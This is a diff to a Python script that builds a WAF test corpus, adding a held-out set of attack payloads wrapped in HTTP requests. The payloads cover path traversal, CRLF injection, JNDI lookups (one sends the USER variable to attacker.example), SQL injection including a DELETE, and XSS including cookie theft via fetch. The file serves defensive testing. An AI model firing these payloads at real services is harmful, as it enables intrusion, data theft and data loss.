@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""Writes benign.tsv and attacks.tsv for WafCorpusTest. Our own corpus: realistic API and
+"""Writes benign.tsv, attacks.tsv and holdout.tsv for WafCorpusTest. Our own corpus: realistic API and
 browser traffic, and attack payloads of each family, written for this project (not copied from
 any list). Deterministic: run it again and the files come out the same.
 
@@ -323,9 +323,58 @@ def attacks():
         out.append(line("scanner", "GET", "/", [("User-Agent", ua), ("Accept", "*/*")]))
     return out
 
+
+# Written after the rules were frozen and never used to tune them: an honest look at what the
+# rules miss. Different payloads, and other places (Referer, JSON keys, PUT bodies, path segments).
+HOLDOUT = [
+    ("traversal", "query", "....\\\\....\\\\....\\\\boot.ini"), ("traversal", "json", "/../../../../../../../../etc/issue"),
+    ("traversal", "query", "%2e%2e/%2e%2e/%2e%2e/opt/app/config.yml"), ("traversal", "form", "..%u2215..%u2215..%u2215etc%u2215group"),
+    ("traversal", "query", "file:///c:/windows/win.ini"), ("traversal", "json", "..//..//..//var/log/auth.log"),
+    ("traversal", "query", "/static/../../../../usr/local/app/.env"), ("traversal", "form", "%25%32%65%25%32%65%25%32%66etc%25%32%66passwd"),
+    ("protocol", "query", "image.png%00.php"), ("protocol", "form", "x%0d%0aX-Injected:%201"),
+    ("protocol", "query", "%0d%0a%0d%0a<html>injected</html>"), ("protocol", "json", "a\u0000b"),
+    ("lookup", "header", "${jndi:ldaps://198.51.100.7:636/Exploit}"), ("lookup", "header", "${${lower:${lower:jndi}}:${lower:rmi}://x/}"),
+    ("lookup", "header", "${${upper::-j}${upper::-n}${upper::-d}${upper::-i}:ldap://x/a}"), ("lookup", "query", "${jndi:nis://x/a}"),
+    ("lookup", "json", "${sys:java.version}"), ("lookup", "referer", "${jndi:ldap://${env:USER}.attacker.example/a}"),
+    ("lookup", "json", "#{T(java.lang.Runtime).getRuntime().exec('id')}"), ("lookup", "query", "${::-$}{jndi:ldap://x}"),
+    ("sqli", "query", "1' AND 1=(SELECT COUNT(*) FROM tabname); --"), ("sqli", "json", "' OR EXISTS(SELECT * FROM users WHERE username='admin')--"),
+    ("sqli", "form", "admin') OR ('a'='a"), ("sqli", "query", "10 AND IF(1=1,SLEEP(3),0)"),
+    ("sqli", "cookie", "1' UNION SELECT @@version,NULL#"), ("sqli", "query", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
+    ("sqli", "json", "x'; DELETE FROM orders WHERE '1'='1"), ("sqli", "query", "(SELECT 2 FROM DUAL WHERE 1=1)"),
+    ("sqli", "form", "' AND 1=CAST((SELECT current_user) AS int)--"), ("sqli", "query", "1 AND (SELECT SUBSTR(banner,1,1) FROM v$version)='O'"),
+    ("sqli", "json", "1 OR 2>1"), ("sqli", "query", "name' GROUP BY columnnames having 1=1 --"),
+    ("xss", "query", "<img/src/onerror=alert(1)>"), ("xss", "json", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>"),
+    ("xss", "form", "\"><iframe/onload=alert(1)>"), ("xss", "query", "<dETAILS%0aopen%0aonToGgle%0a=%0aa=prompt,a()%0a>"),
+    ("xss", "referer", "https://example.com/\"><script>alert(1)</script>"), ("xss", "json", "<body/onpageshow=alert(1)>"),
+    ("xss", "query", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//"), ("xss", "form", "<x onclick=alert(1)>click"),
+    ("xss", "query", "<a href=\"&#106;avascript:alert(1)\">x</a>"), ("xss", "json", "</textarea><script>fetch('//x/'+document.cookie)</script>"),
+    ("xss", "query", "<object type=\"text/x-scriptlet\" data=\"//x/a\"></object>"), ("xss", "json", "<isindex type=image src=1 onerror=alert(1)>"),
+]
+
+def holdout():
+    out = []
+    for family, where, payload in HOLDOUT:
+        if where == "referer":
+            out.append(line(family, "GET", "/", [("User-Agent", CHROME), ("Referer", payload)]))
+        elif where == "header":
+            out.append(line(family, "GET", "/", [("User-Agent", payload)]))
+        elif where == "query":
+            value = payload if encoded(payload) else up.quote(payload, safe="")
+            out.append(line(family, "GET", "/items?id=" + value, browser_headers()))
+        elif where == "json":
+            out.append(line(family, "PUT", "/api/v1/profile", api_headers("application/json"), json.dumps({"bio": payload})))
+        elif where == "form":
+            out.append(line(family, "POST", "/signup", browser_headers() + [("Content-Type", "application/x-www-form-urlencoded")],
+                            "email=a%40b.c&name=" + (payload if encoded(payload) else up.quote(payload, safe=""))))
+        elif where == "cookie":
+            out.append(line(family, "GET", "/", [("User-Agent", CHROME), ("Cookie", "id=" + up.quote(payload, safe=""))]))
+    return out
+
 if __name__ == "__main__":
     b = benign()
     a = attacks()
     open("benign.tsv", "w").write("\n".join(b) + "\n")
     open("attacks.tsv", "w").write("\n".join(a) + "\n")
-    print(len(b), "benign,", len(a), "attacks")
+    h = holdout()
+    open("holdout.tsv", "w").write("\n".join(h) + "\n")
+    print(len(b), "benign,", len(a), "attacks,", len(h), "held out")
